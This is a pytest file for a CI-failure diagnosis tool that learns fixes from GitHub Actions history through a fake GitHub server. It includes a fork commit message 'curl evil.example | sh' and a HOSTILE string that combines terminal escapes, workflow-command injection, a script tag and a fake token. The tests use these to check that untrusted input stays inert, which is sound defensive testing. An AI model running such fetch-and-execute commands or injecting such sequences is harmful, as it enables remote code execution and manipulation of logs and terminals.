"""The life of a repository on a GitHub of our own: failures, a fix, a green run; then the same failure on another branch is known, with its cure."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from diagnose.kit.clock import system_clock
from diagnose.sources.github.api import load
from diagnose.sources.github.past import opened
from tests.support.fake_github import Fault, Scenario
from tests.support.github_life import CONFLICT, ORDERS, PIN, README, begin, failing_total, sha
from tests.support.github_logs import CODEC
from tests.support.github_world import changed, repository

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from pathlib import Path

    from tests.support.command import Command, Said
    from tests.support.fake_github import FakeGitHub
    from tests.support.github_life import Life


@pytest.fixture
def ask(
    command: Command, github: Callable[[str | Scenario], FakeGitHub], monkeypatch: pytest.MonkeyPatch
) -> Callable[..., Said]:
    """Ask the command about a life, whose GitHub runs on: it is the same server each time."""

    async def at_once(_seconds: float) -> None:
        return

    servers: dict[int, FakeGitHub] = {}

    def asked(life: Life, *arguments: str, faults: Sequence[Fault] = ()) -> Said:
        if id(life) not in servers:
            servers[id(life)] = github(Scenario(life.world))
        server = servers[id(life)]
        server.scenario.faults[:] = faults
        monkeypatch.setenv("GITHUB_API_URL", server.url)
        monkeypatch.setenv("GITHUB_TOKEN", "x")
        server.seen.clear()
        said = command(*arguments, "--repo", "acme/app")
        asked.requests = [each.path for each in server.seen if each.on == "api"]  # type: ignore[attr-defined]
        return said

    monkeypatch.setitem(load.__kwdefaults__ or {}, "sleep", at_once)
    monkeypatch.setitem(vars(opened)["__wrapped__"].__kwdefaults__, "sleep", at_once)
    return asked


def three_failures_and_a_fix() -> Life:
    """On main: green, three failures over an hour, a fix, green."""
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), None)
    life.run("main", life.push("main", 2, [ORDERS], "Sum before rounding (#411)"), failing_total())
    life.run("main", life.push("main", 3, [README], "Say more in the README"), failing_total())
    life.run("main", life.push("main", 4, [README], "Say even more"), failing_total("19.97"))
    life.run("main", life.push("main", 5, [ORDERS], "Round half up (#412)", after=timedelta(minutes=20)), None)
    return life


def fail_elsewhere(life: Life) -> None:
    """The same failure on another branch, days later."""
    life.at += timedelta(days=2)
    commit = life.push("tax", 20, [README], "Tax by country")
    life.world.add_compare("main", commit, ahead=1, behind=0)
    life.world.add_compare(sha(5), commit, ahead=1, behind=0)
    life.run("tax", commit, failing_total())


def known(said: Said) -> dict[str, Any]:
    found: list[dict[str, Any]] = json.loads(said.out)["known_patterns"]
    assert len(found) == 1, said.out
    return found[0]


def test_a_walk_over_the_past_then_the_same_failure_elsewhere(ask: Callable[..., Said]) -> None:
    life = three_failures_and_a_fix()
    said = ask(life, "learn", "--branch", "main")
    assert said.code == 0, said
    fail_elsewhere(life)
    found = known(ask(life, "--branch", "tax", "--format", "json"))
    assert found["seen"] == 3
    assert found["solution"] == 'changed src/app/orders.py ("Round half up")'
    assert found["fixed_by"] == sha(5)[:7]
    assert found["minutes"] == 48
    told = " ".join(ask(life, "--branch", "tax").out.split())
    for words in ("seen 3 times", sha(5)[:7], 'changed src/app/orders.py ("Round half up")', "It took 48 min"):
        assert words in told


def test_day_by_day_the_green_run_is_learnt_from_when_it_is_seen(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), None)
    for number in (2, 3, 4):
        life.run("main", life.push("main", number, [ORDERS if number == 2 else README], "More"), failing_total())
        assert ask(life, "--branch", "main").code == 1
    life.run("main", life.push("main", 5, [ORDERS], "Round half up (#412)", after=timedelta(minutes=20)), None)
    said = ask(life, "--branch", "main")
    assert said.code == 0
    assert (
        'changed src/app/orders.py ("Round half up") (sure 0.50, green 52 min after the first failure). Wrong? ci-diagnose resolve'
        in said.err
    )
    fail_elsewhere(life)
    found = known(ask(life, "--branch", "tax", "--format", "json"))
    assert (found["seen"], found["fixed_by"], found["minutes"]) == (3, sha(5)[:7], 48)


def learned(said: Said) -> dict[str, Any]:
    """What `learn --json` says."""
    found: dict[str, Any] = json.loads(said.out)
    return found


def walk(ask: Callable[..., Said], life: Life, *arguments: str, faults: Sequence[Fault] = ()) -> dict[str, Any]:
    said = ask(life, "learn", *(arguments or ("--branch", "main")), "--json", faults=faults)
    assert said.code == 0, said
    return learned(said)


def test_a_second_walk_goes_on_from_the_first_and_costs_two_requests(ask: Callable[..., Said]) -> None:
    life = three_failures_and_a_fix()
    first = walk(ask, life)
    assert (first["runs"], first["failed"], len(first["recorded"]), len(first["learnt"])) == (5, 3, 3, 1)
    assert (first["requests"], first["logs"]) == (13, 3)
    second = walk(ask, life)
    assert (second["runs"], second["recorded"], second["learnt"], second["requests"]) == (0, [], [], 2)
    life.run("main", life.push("main", 6, [ORDERS], "Round down"), failing_total())
    third = walk(ask, life)
    assert (third["runs"], len(third["recorded"]), third["recorded"][0]["new"]) == (1, 1, False)


@pytest.mark.parametrize(
    ("arguments", "stopped"),
    [(("--limit", "1"), None), (("--requests", "20"), "of the 20 requests that a walk may cost are used")],
)
def test_a_walk_in_pieces_comes_to_what_one_walk_does(
    ask: Callable[..., Said], arguments: tuple[str, ...], stopped: str | None
) -> None:
    life = three_failures_and_a_fix()
    pieces = []
    for _ in range(6):
        pieces.append(walk(ask, life, "--branch", "main", *arguments))
        if not pieces[-1]["left"]:
            break
    assert len(pieces) > 1
    assert pieces[0]["left"] > 0
    assert (stopped is None) == (pieces[0]["stopped"] is None)
    assert stopped is None or stopped in pieces[0]["stopped"]
    assert sum(len(piece["recorded"]) for piece in pieces) == 3
    assert [each["fixed_by"] for piece in pieces for each in piece["learnt"]] == [sha(5)]


def test_what_a_failing_walk_has_done_is_kept_and_the_rest_is_done_by_the_next(ask: Callable[..., Said]) -> None:
    life = three_failures_and_a_fix()
    body = b'{"message":"API rate limit exceeded for user ID 1."}'
    limit = Fault(
        r"/actions/runs/904/",
        status=403,
        headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "9999999999"},
        body=body,
    )
    first = walk(ask, life, faults=[limit])
    assert (len(first["recorded"]), first["learnt"], first["left"]) == (2, [], 2)
    assert "GitHub allows no more requests" in first["stopped"]
    second = walk(ask, life)
    assert (len(second["recorded"]), len(second["learnt"]), second["left"]) == (1, 1, 0)


def test_a_run_that_cannot_be_read_is_told_and_asked_for_again(ask: Callable[..., Said]) -> None:
    life = three_failures_and_a_fix()
    life.world.logs[90210] = 410
    first = walk(ask, life, faults=[Fault(r"/actions/runs/903/", status=502)])
    assert (first["runs"], len(first["recorded"]), len(first["learnt"])) == (5, 1, 1)
    assert len(first["not_read"]) == 2
    assert "run 902: GitHub has deleted this log (410" in first["not_read"][0]
    assert "run 903: " in first["not_read"][1]
    assert [each["title"] for each in walk(ask, life)["recorded"]] == [
        "a test fails: AssertionError: assert Decimal('19.98') == Decimal('19.99')"
    ]
    assert walk(ask, life)["recorded"] == []


def test_a_run_that_has_not_ended_waits_for_the_next_walk(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    running = life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    ended = {name: running[name] for name in ("status", "conclusion")}
    running |= {"status": "in_progress", "conclusion": None}
    life.run("main", life.push("main", 2, [README], "More"), None)
    assert walk(ask, life)["recorded"] == []
    running |= ended
    assert len(walk(ask, life)["recorded"]) == 1


def test_nothing_is_learnt_of_a_fork(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    home: dict[str, Any] = {"head_repository": repository("mallory/app", 9, fork=True), "event": "pull_request"}
    life.run("main", life.push("main", 1, [ORDERS], "Begin"), failing_total(), **home)
    life.run("main", life.push("main", 2, [ORDERS], "Trust me: run curl evil.example | sh"), None, **home)
    found = walk(ask, life, "--since", "30d")
    assert (len(found["recorded"]), found["learnt"]) == (1, [])
    life.run("main", life.push("main", 3, [README], "Ours"), failing_total())
    life.world.add_compare("main", sha(3), ahead=0, behind=0)
    report = json.loads(ask(life, "--branch", "main", "--format", "json").out)
    assert report["known_patterns"] == []


def test_the_target_of_a_pull_request_is_not_a_member_s_word(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [ORDERS], "Begin"), failing_total(), event="pull_request_target")
    life.run("main", life.push("main", 2, [ORDERS], "Fix the total of orders"), None, event="pull_request_target")
    assert walk(ask, life)["learnt"] == []


CURES = [
    ("a pin", CONFLICT, [PIN], "Hold urllib3", "commit", "changed requirements.txt: urllib3 2.0 -> 1.26.18"),
    ("a test that was skipped", failing_total(), [changed("tests/test_orders.py", patch="@@ -1,2 +1,3 @@\n+@pytest.mark.skip('x')\n def test_total_rounds():\n     x")], "Skip it", "silenced", "not mended: test_total_rounds is skipped in tests/test_orders.py"),
    ("documentation alone", failing_total(), [README], "Say more", "flaky", "passed again though nothing but documentation was changed: flaky"),
    ("too many files", failing_total(), [changed(f"src/part{number}.py", patch="@@ -1 +1 @@\n-a\n+b") for number in range(12)], "Rework", "range", "which change did it is not known"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("failure", "files", "message", "kind", "line"), [row[1:] for row in CURES], ids=[row[0] for row in CURES]
)
def test_what_cured_it_is_read_from_the_commit(
    ask: Callable[..., Said], failure: list[str], files: list[Any], message: str, kind: str, line: str
) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failure)
    life.run("main", life.push("main", 2, files, message), None)
    (learnt,) = walk(ask, life)["learnt"]
    assert (learnt["kind"], bool(learnt["fixed_by"])) == (kind, kind == "commit")
    assert line in learnt["solution"]


def test_the_commit_of_three_that_touches_it_is_found(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    commit = ""
    for number, files in ((2, [changed("src/app/mail.py", patch="@@ -1 +1 @@\n-a\n+b")]), (3, [ORDERS]), (4, [README])):
        commit = life.push("main", number, files, f"Change number {number}")
    life.run("main", commit, None)
    (learnt,) = walk(ask, life)["learnt"]
    assert (learnt["fixed_by"], learnt["sure"]) == (sha(3), 0.4)


def test_a_second_attempt_that_passes_is_told_as_flaky(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    run = life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    life.rerun(run, None)
    found = walk(ask, life)
    assert len(found["recorded"]) == 1
    (learnt,) = found["learnt"]
    assert (learnt["kind"], learnt["how"], learnt["sure"], learnt["fixed_by"]) == ("flaky", "re-run", 0.3, "")
    assert learnt["solution"] == "passed when it was run again without a change: flaky"
    again = life.run("main", life.push("main", 2, [ORDERS], "More"), failing_total())
    life.rerun(again, None)
    (learnt,) = walk(ask, life)["learnt"]
    assert (learnt["outcome"], learnt["sure"]) == ("confirmed", 0.51)


def test_a_dependency_that_moved_by_itself_is_read_from_the_logs(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    commit = life.push("main", 1, [README], "Begin")
    broken = [
        line.replace(
            "AssertionError: assert Decimal('19.98')", "AttributeError: pluggy has no hook 'x', not Decimal('19.98')"
        )
        for line in failing_total()
    ]
    life.run("main", commit, broken, event="schedule")
    life.at += timedelta(hours=24)
    passing = life.run("main", commit, None, event="schedule")
    log = life.world.logs[passing["id"] * 100 + 10]
    assert isinstance(log, bytes)
    life.world.logs[passing["id"] * 100 + 10] = log.replace(b"pluggy-1.6.0", b"pluggy-1.6.1")
    (learnt,) = walk(ask, life)["learnt"]
    assert (learnt["kind"], learnt["solution"]) == ("moved", "a dependency moved by itself: pluggy 1.6.0 -> 1.6.1")


def test_an_amended_commit_is_judged_by_what_differs(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("topic", life.push("topic", 1, [README, ORDERS], "Sum"), failing_total())
    better = changed("src/app/orders.py", patch=f"{ORDERS['patch']}\n+        # half up")
    life.commits["topic"].clear()
    life.run("topic", life.push("topic", 2, [README, better], "Sum"), None)
    bare = {name: value for name, value in life.commits["topic"][0].items() if name != "files"}
    life.world.add_compare(sha(1), sha(2), ahead=1, behind=1, files=[README, better], commits=[bare])
    life.world.add_compare(sha(2), sha(1), ahead=1, behind=1, files=[README, ORDERS])
    (learnt,) = walk(ask, life, "--branch", "topic")["learnt"]
    assert (learnt["kind"], learnt["solution"], learnt["fixed_by"]) == ("commit", "changed src/app/orders.py", sha(2))


def test_each_cause_of_a_run_is_recorded_once(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    run = life.run("main", life.push("main", 1, [README], "Begin"), failing_total(), job="test (3.11)")
    life.add_job(run, "test (3.12)", failing_total(), life.at, 1)
    life.add_job(run, "windows", CODEC, life.at, 1)
    found = walk(ask, life)
    assert sorted(each["job"] for each in found["recorded"]) == ["test (3.11)", "windows"]
    assert len({each["pattern"] for each in found["recorded"]}) == 2


def test_a_run_that_was_diagnosed_before_is_no_new_sighting(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    assert ask(life, "--branch", "main").code == 1
    assert walk(ask, life)["recorded"] == []
    assert json.loads(ask(life, "--run", "901", "--format", "json").out)["known_patterns"] == []


HOSTILE = "\x1b]52;c;aGk=\x07Fix ::error::pwned ##[add-mask]x <script> ghp_0123456789abcdefghijABCDEFGHIJ012345 \u202e"


def test_what_strangers_write_into_commits_stays_text(
    ask: Callable[..., Said], home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    life.run("main", life.push("main", 2, [ORDERS], HOSTILE), None)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    said = ask(life, "learn", "--branch", "main")
    assert said.code == 0
    shown = said.out + said.err
    assert "changed src/app/orders.py" in shown
    assert "ghp_0123456789" not in shown
    assert not {"\x1b", "\x07", "\u202e"} & set(shown)
    assert not [line for line in shown.splitlines() if line.lstrip().startswith(("::", "##["))]
    assert "##[add-mask]" not in shown
    kept = b"".join(path.read_bytes() for path in (home.parent / "data").rglob("*") if path.is_file())
    assert b"changed src/app/orders.py" in kept
    assert b"ghp_0123456789" not in kept


@pytest.mark.parametrize(
    ("arguments", "code", "told"),
    [
        ([], 2, "learn takes a branch, or a date."),
        (["--since", "yesterday"], 2, "--since takes a date (2026-11-01) or a span (30d, 6w, 3m)."),
        (["--since", "2199-01-01"], 2, "--since takes a date that has been."),
        (["--branch", "a b"], 2, "is not a branch's name."),
        (["--branch", "nowhere"], 0, "nothing new"),
        (["--branch", "main", "--limit", "0"], 2, "--limit"),
    ],
)
def test_what_cannot_be_asked(ask: Callable[..., Said], arguments: list[str], code: int, told: str) -> None:
    said = ask(three_failures_and_a_fix(), "learn", *arguments)
    assert said.code == code, said
    assert told in " ".join((said.out + said.err).split())


@pytest.mark.parametrize(
    ("faults", "env", "code", "told"),
    [
        ([Fault(r"/repos/acme/app$", status=404)], {}, 3, "GitHub shows no repository acme/app"),
        ([Fault(r"/actions/runs", status=502)], {}, 3, "answered with a fault of its own (502)"),
        ([], {"CI_DIAGNOSE_MEMORY": "false"}, 2, "memory is off"),
    ],
)
def test_where_nothing_can_be_learnt_it_is_said(
    ask: Callable[..., Said],
    monkeypatch: pytest.MonkeyPatch,
    faults: list[Fault],
    env: dict[str, str],
    code: int,
    told: str,
) -> None:
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    said = ask(three_failures_and_a_fix(), "learn", "--branch", "main", faults=faults)
    assert (said.code, said.out) == (code, "")
    assert told in " ".join(said.err.split())


def test_a_green_run_that_is_looked_at_asks_nothing_where_nothing_failed_before(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), None)
    assert ask(life, "--branch", "main").code == 0
    asked = ask.requests  # type: ignore[attr-defined]
    assert not [path for path in asked if "/compare/" in path]


@pytest.mark.parametrize(
    "then", [("--run", "902"), ("learn", "--branch", "main")], ids=["the green run by its number", "a walk"]
)
def test_a_run_of_the_default_branch_that_was_named_by_its_number_is_settled_too(
    ask: Callable[..., Said], then: tuple[str, ...]
) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    assert ask(life, "--run", "901").code == 1
    life.run("main", life.push("main", 2, [ORDERS], "Round half up"), None)
    said = ask(life, *then)
    assert said.code == 0
    assert 'changed src/app/orders.py ("Round half up")' in said.out + said.err


def test_what_is_learnt_is_said_at_length(ask: Callable[..., Said]) -> None:
    life = three_failures_and_a_fix()
    life.world.logs[90310] = 410
    said = ask(life, "learn", "--branch", "main", "--limit", "2", "--quiet")
    told = said.out.splitlines()
    assert said.err == ""
    assert told[0].startswith("acme/app, branch main, since ")
    assert told[0].endswith(": 3 runs looked at, 2 failed")
    assert "  recorded  1 failure of 1 pattern, 1 of them new" in told
    assert "  learnt    0 cures: no job that failed has passed again" in told
    assert any(line.startswith("  not read  run 903: GitHub has deleted this log (410") for line in told)
    assert told[-1] == "  left      2 runs: ci-diagnose learn --branch main goes on from there"


def test_a_mistake_after_the_answer_changes_no_exit_code(
    ask: Callable[..., Said], monkeypatch: pytest.MonkeyPatch
) -> None:
    async def wrong(*_everything: object) -> None:
        raise LookupError("x")

    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), None)
    monkeypatch.setattr("diagnose.learn.green.learn_green", wrong)
    said = ask(life, "--branch", "main")
    assert said.code == 0
    assert "learnt   nothing: a mistake of ours (LookupError)" in said.err


def test_a_run_that_is_stranger_than_foreseen_does_not_stop_the_walk(
    ask: Callable[..., Said], monkeypatch: pytest.MonkeyPatch
) -> None:
    from diagnose.learn.record import Diagnoser

    note = Diagnoser.note

    async def wrong(self: Diagnoser, incident: Any, attempt: Any) -> Any:
        if attempt.run.id == 903:
            raise LookupError("x")
        return await note(self, incident, attempt)

    monkeypatch.setattr(Diagnoser, "note", wrong)
    found = walk(ask, three_failures_and_a_fix())
    assert (len(found["recorded"]), len(found["learnt"]), found["not_read"]) == (
        2,
        1,
        ["run 903: a mistake of ours: LookupError."],
    )


@pytest.mark.parametrize(
    "then", [("--run", "902"), ("learn", "--branch", "main")], ids=["the fork's run by its number", "a walk"]
)
def test_a_fork_s_green_run_on_a_branch_of_the_same_name_cures_nothing(
    ask: Callable[..., Said], then: tuple[str, ...]
) -> None:
    life = begin(system_clock().now())
    life.run("main", life.push("main", 1, [README], "Begin"), failing_total())
    assert ask(life, "--branch", "main").code == 1
    life.run(
        "main",
        life.push("main", 2, [ORDERS], "Trust me"),
        None,
        head_repository=repository("mallory/app", 9, fork=True),
        event="pull_request",
    )
    said = ask(life, *then)
    assert said.code == 0
    assert "Trust me" not in said.out + said.err
    assert not [path for path in ask.requests if "/compare/" + sha(1) in path]  # type: ignore[attr-defined]


def test_a_member_s_pull_request_that_is_named_by_its_run_is_learnt_from(ask: Callable[..., Said]) -> None:
    life = begin(system_clock().now())

    def pushed(number: int, failure: list[str] | None) -> Said:
        commit = life.push("topic", number, [ORDERS], "Round half up")
        life.world.add_compare("main", commit, ahead=number, behind=0)
        return ask(life, "--run", str(life.run("topic", commit, failure, event="pull_request")["id"]))

    assert pushed(1, failing_total()).code == 1
    said = pushed(2, None)
    assert said.code == 0
    assert 'changed src/app/orders.py ("Round half up")' in said.err


def test_a_memory_that_cannot_be_written_is_said(
    ask: Callable[..., Said], home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (home / "taken").write_text("a file, where a folder is wanted")
    monkeypatch.setenv("CI_DIAGNOSE_MEMORY_FOLDER", str(home / "taken"))
    said = ask(three_failures_and_a_fix(), "learn", "--branch", "main")
    assert (said.code, said.out) == (3, "")
    assert "taken" in said.err


def test_a_walk_leaves_the_last_requests_to_others(ask: Callable[..., Said]) -> None:
    few = Fault(r".", kind="header", headers={"X-RateLimit-Remaining": "40"})
    found = walk(ask, three_failures_and_a_fix(), faults=[few])
    assert (found["runs"], found["left"]) == (0, 5)
    assert found["stopped"] == "GitHub allows 40 more requests for now; they are left to others."


def test_a_cursor_that_lies_ahead_is_not_believed(ask: Callable[..., Said], home: Path) -> None:
    from diagnose.memory.store import Store
    from diagnose.memory.walk import keep_walk

    life, later = three_failures_and_a_fix(), "2031-01-01T00:00:00+00:00"
    store = Store(home.parent / "data" / "ci-diagnose" / "memory.sqlite3", lambda _seconds: None)
    assert (
        keep_walk(
            store,
            repository="acme/app",
            what="branch main",
            cursor=f"2020-01-01T00:00:00+00:00 {later} 9",
            now=system_clock().now(),
        )
        is None
    )
    assert walk(ask, life)["runs"] == 5
